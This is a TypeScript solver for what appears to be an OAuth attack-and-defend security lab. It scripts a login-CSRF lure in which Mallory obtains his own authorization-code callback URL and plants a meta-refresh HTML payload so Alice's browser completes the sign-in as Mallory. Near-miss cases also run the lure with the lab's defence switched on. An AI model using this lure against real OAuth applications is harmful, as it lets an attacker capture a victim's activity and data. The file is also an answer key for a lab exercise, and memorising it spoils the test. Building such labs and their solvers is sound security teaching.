import type { Participant } from '../../solver.ts';
import { labSolver } from '../attack-and-defend.ts';
import { signInToApp } from '../lab-app.ts';

/** The page of Mallory sends Alice to a callback with a code of his. */
async function lure(by: Participant): Promise<void> {
  const login = await by.submit(await by.open('/demo-app'), 'app-sign-in');
  const { url } = await by.submitUntil(login, 'login-user-mallory', `${new URL(by.issuer).pathname}/demo-app/callback`);
  await by.attack('victim', `<meta http-equiv="refresh" content="0; url=${url.href}">`);
}

export const solver = labSolver({
  first: 'alice',
  goal: {
    solve: lure,
    nearMisses: {
      'both sign in, in one browser': {
        async does(by) {
          await signInToApp(by, 'alice');
          await by.open('/oauth2/logout');
          await signInToApp(by, 'mallory').catch(() => undefined);
        },
      },
      'the defence is on': {
        also: ['again'],
        async does(by) {
          await by.defend(true);
          await lure(by);
        },
      },
    },
  },
});
